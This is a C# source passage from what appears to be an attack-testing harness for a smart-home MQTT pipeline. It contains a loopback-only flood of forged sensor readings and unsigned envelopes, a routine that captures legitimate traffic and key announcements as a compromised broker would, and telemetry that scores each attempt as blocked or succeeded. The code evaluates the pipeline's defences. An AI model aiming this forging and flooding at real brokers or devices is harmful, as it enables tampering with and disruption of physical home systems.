            $"subscribed to '{filter}' (SUBACK {suback?.ToString() ?? "none"}); received {seen} reading messages, {unreadable} unreadable; " +
            "success = the attacker decoded exactly the value the actuator applied for that message id.");
    }

    private async Task<AttackResult> FloodAsync(AttackLevel level, CampaignRequest request, CancellationToken ct)
    {
        if (!settings.Broker.IsLoopback)
        {
            return Skipped(Attacks.Flood, level, 0, "refused: the flood only targets a broker on this machine (loopback)");
        }

        var count = Math.Clamp(request.FloodMessages > 0 ? request.FloodMessages : request.Attempts, 1, CampaignRequest.MaxFloodMessages);
        var rate = Math.Clamp(request.FloodRate, 1, 50_000);
        var topic = Topics.Readings(VictimDevice);
        var captures = settings.Secure && level == AttackLevel.CompromisedBroker ? await HarvestAsync(4, ct).ConfigureAwait(false) : null;
        var keyId = ObservedKeyId(captures, VictimDevice);
        var attempts = Enumerable.Range(0, count).Select(i =>
        {
            var id = NewAttemptId(Attacks.Flood);
            byte[] payload = settings.Secure
                ? EnvelopeForge.UnsignedData(VictimDevice, keyId ?? RandomKeyId(), FreshCounter(i), DateTimeOffset.UtcNow.ToUnixTimeMilliseconds(), 120)
                : Payloads.ForgedReading(VictimDevice, 15.0, DeviceReading.NowMicros(TimeProvider.System)).ToUtf8Json();
            return new PlannedAttempt(id, [new PlannedMessage(topic, payload, id)]);
        }).ToList();

        await using var session = await ConnectAsync(level, "flood", ct).ConfigureAwait(false);
        var startSeq = await victim.LatestSeqAsync(ct).ConfigureAwait(false);
        var floodSeconds = count / rate;
        var legitCount = request.LegitDuringFlood > 0 ? request.LegitDuringFlood : Math.Max(20, (int)(floodSeconds * 50));
        var legitRate = Math.Max(10, legitCount / Math.Max(floodSeconds, 0.4));
        var legitTask = victim.TriggerReadingsAsync(legitCount, legitRate, ct);
        var spans = attempts.ToDictionary(a => a.Id, a => StartSpan(Attacks.Flood, level, a.Id), StringComparer.Ordinal);
        var clock = Stopwatch.StartNew();
        if (session.IsConnected)
        {
            var sendTasks = new List<Task>(count);
            for (var i = 0; i < count; i++)
            {
                var due = TimeSpan.FromSeconds(i / rate);
                if (due - clock.Elapsed > TimeSpan.FromMilliseconds(2))
                {
                    await Task.Delay(due - clock.Elapsed, ct).ConfigureAwait(false);
                }

                var attempt = attempts[i];
                var message = attempt.Messages[0];
                sendTasks.Add(Task.Run(async () => attempt.Acks[message.AttemptId] =
                    await session.PublishWithRetryAsync(message.Topic, message.Payload, message.AttemptId, false, ct).ConfigureAwait(false), ct));
            }

            await Task.WhenAll(sendTasks).ConfigureAwait(false);
        }

        var sentIn = clock.Elapsed;
        var legitIds = await legitTask.ConfigureAwait(false);
        var decisions = await DrainAsync(startSeq, ct).ConfigureAwait(false);
        var verdicts = attempts.Select(a => decisions is null ? Verdict.Unknown : Judge.Attempt(a, decisions, session.RefusedBy, settings.Secure)).ToList();
        for (var i = 0; i < attempts.Count; i++)
        {
            EndSpan(spans[attempts[i].Id], Attacks.Flood, level, verdicts[i]);
        }

        // Latency of the legit readings sent during the flood, from the actuator's own log.
        var all = await victim.DecisionsAfterAsync(startSeq, ct).ConfigureAwait(false);
        var legitSet = legitIds.ToHashSet(StringComparer.Ordinal);
        var legit = all.Where(d => d.MessageId is not null && legitSet.Contains(d.MessageId) && d.AttemptId is null).ToList();
        var latencies = legit.Where(d => d.Verdict == "applied" && d.LatencyMs is not null).Select(d => d.LatencyMs!.Value).ToList();
        var p99 = Judge.Percentile(latencies, 99);
        var p50 = Judge.Percentile(latencies, 50);
        var alive = await victim.ActuatorHealthyAsync(ct).ConfigureAwait(false);
        var summary = Summarize(Attacks.Flood, level, verdicts,
            $"{count} forged messages at a target {rate:0}/s (sent in {sentIn.TotalSeconds:0.00} s); {legitIds.Count} legit readings meanwhile: " +
            $"{latencies.Count} applied, {legit.Count(d => d.Verdict == "rejected")} rejected, p50 {p50:0.00} ms, p99 {p99:0.00} ms. " +
            (alive ? "Actuator healthy afterwards." : "ACTUATOR NOT HEALTHY afterwards."));
        return summary with { LegitP99Ms = p99 };
    }

    /// <summary>
    /// Captures legit traffic the way the strongest observer of this pipeline can (insecure: anyone; secure: the
    /// compromised broker): subscribes, asks the sensor for <paramref name="count"/> readings, collects them and the
    /// retained key announcements.
    /// </summary>
    private async Task<List<Capture>> HarvestAsync(int count, CancellationToken ct)
    {
        var captures = new ConcurrentQueue<Capture>();
        var control = await ControlAsync(ct).ConfigureAwait(false);
        control.Received = m => captures.Enqueue(new Capture(m.Topic, m.Payload.ToArray()));
        await control.SubscribeAsync(Topics.ReadingsFilter, ct).ConfigureAwait(false);
        await control.SubscribeAsync(Topics.KeysFilter, ct).ConfigureAwait(false);
        var ids = await victim.TriggerReadingsAsync(count, double.PositiveInfinity, ct).ConfigureAwait(false);
        _harvestedIds.AddRange(ids);
        var deadline = DateTime.UtcNow + TimeSpan.FromSeconds(ids.Count > 0 ? 15 : Math.Max(15, count));
        while (captures.Count(c => Topics.IsReadingTopic(c.Topic)) < count && DateTime.UtcNow < deadline)
        {
            await Task.Delay(50, ct).ConfigureAwait(false);
        }

        await control.UnsubscribeAsync(Topics.ReadingsFilter, ct).ConfigureAwait(false);
        await control.UnsubscribeAsync(Topics.KeysFilter, ct).ConfigureAwait(false);
        control.Received = null;
        return captures.Where(c => c.Payload.Length > 0).ToList();
    }

    // ---------------------------------------------------------------- telemetry and results

    private Activity? StartSpan(string attack, AttackLevel level, string attemptId)
    {
        var previous = Activity.Current;
        Activity.Current = null;
        var activity = SmartHomeTelemetry.ActivitySource.StartActivity($"attack {attack}", ActivityKind.Producer);
        activity?.SetTag(Attr.Attack, attack);
        activity?.SetTag(Attr.AttackLevel, Attacks.LevelName(level));
        activity?.SetTag(Attr.AttemptId, attemptId);
        activity?.SetTag(Attr.Pipeline, settings.Pipeline);
        Activity.Current = previous;
        return activity;
    }

    private void EndSpan(Activity? activity, string attack, AttackLevel level, Verdict verdict)
    {
        var outcome = !verdict.Judged ? "unjudged" : verdict.Succeeded ? "succeeded" : "blocked";
        if (activity is not null)
        {
            activity.SetTag(Attr.AttackOutcome, outcome);
            if (verdict.BlockedBy is not null)
            {
                activity.SetTag(Attr.AttackBlockedBy, verdict.BlockedBy);
            }

            activity.Stop();
            activity.Dispose();
        }

        SmartHomeTelemetry.AttackAttempts.Add(1,
            new KeyValuePair<string, object?>(Attr.Attack, attack),
            new KeyValuePair<string, object?>(Attr.AttackLevel, Attacks.LevelName(level)),
            new KeyValuePair<string, object?>(Attr.AttackOutcome, outcome),
            new KeyValuePair<string, object?>(Attr.Pipeline, settings.Pipeline));
    }

    private AttackResult Summarize(string attack, AttackLevel level, IReadOnlyList<Verdict> verdicts, string notes) => new()
    {
        Pipeline = settings.Pipeline,
        Attack = attack,
        Level = Attacks.LevelName(level),
        Attempts = verdicts.Count,
        Succeeded = verdicts.Count(v => v.Succeeded),
        Unjudged = verdicts.Count(v => !v.Judged),
        BlockedBy = verdicts.Where(v => v is { Judged: true, Succeeded: false }).GroupBy(v => v.BlockedBy ?? "unknown")
            .ToDictionary(g => g.Key, g => g.Count()),
        Notes = notes,
    };

    private AttackResult Skipped(string attack, AttackLevel level, int attempts, string notes) => new()
    {
        Pipeline = settings.Pipeline,
        Attack = attack,
        Level = Attacks.LevelName(level),
        Attempts = 0,
        Notes = notes,
    };

    [LoggerMessage(LogLevel.Information, "Attacking the {Pipeline} pipeline: {Attack} as {Level}")]
    private static partial void LogAttack(ILogger logger, string pipeline, string attack, string level);

    [LoggerMessage(LogLevel.Error, "Attack {Attack} as {Level} failed")]
    private static partial void LogAttackFailed(ILogger logger, string attack, string level, Exception exception);
}
